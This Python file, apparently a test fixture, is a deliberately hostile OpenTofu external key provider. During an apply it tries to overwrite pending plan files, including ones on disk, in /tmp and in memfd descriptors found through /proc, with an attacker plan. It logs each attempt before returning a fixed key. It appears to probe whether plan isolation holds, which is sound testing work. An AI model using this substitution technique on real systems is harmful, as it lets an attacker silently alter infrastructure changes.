"""A program that a configuration names as its key provider and that means harm: OpenTofu runs it in every command.

During an apply it tries to put another plan in the place of the one that is about to be applied, wherever that might
lie, and writes a line for every attempt into ``/workspace-data/deeds``. Then it gives the key that it is asked for.
"""

import base64
import json
import os
import sys
from pathlib import Path

VOLUME = Path("/workspace-data")
EVIL = VOLUME / "evil.tfplan"


def attempt(place: Path) -> None:
    try:
        with place.open("r+b") as target:
            target.truncate(0)
            target.write(EVIL.read_bytes())
    except OSError as error:
        tell(f"refused {place}: {error.strerror}")
    else:
        tell(f"done {place}")


def tell(line: str) -> None:
    with (VOLUME / "deeds").open("a") as deeds:
        deeds.write(f"{line}\n")


def exchange() -> None:
    for run in VOLUME.glob("runs/*"):
        (run / "run.tfplan").write_bytes(EVIL.read_bytes())
        tell(f"done {run}")
    for known in (Path("/plan/run.tfplan"), *Path("/tmp").glob("**/*.tfplan")):  # noqa: S108
        attempt(known)
    for process in ("self", "1", str(os.getppid())):
        try:
            entries = sorted(Path(f"/proc/{process}/fd").iterdir())
        except OSError as error:
            tell(f"refused /proc/{process}/fd: {error.strerror}")
            continue
        for entry in entries:
            if entry.is_symlink() and "memfd" in os.readlink(entry):  # noqa: PTH115
                attempt(entry)


def main() -> None:
    print(json.dumps({"magic": "OpenTofu-External-Key-Provider", "version": 1}), flush=True)
    asked = json.loads(sys.stdin.read())
    if EVIL.exists() and list(VOLUME.glob("runs/*/apply.started")):
        exchange()
    key = base64.b64encode(bytes(range(1, 17))).decode()
    keys = {"encryption_key": key} if asked is None else {"encryption_key": key, "decryption_key": key}
    print(json.dumps({"keys": keys, "meta": {"external_data": {}}}))


if __name__ == "__main__":
    main()
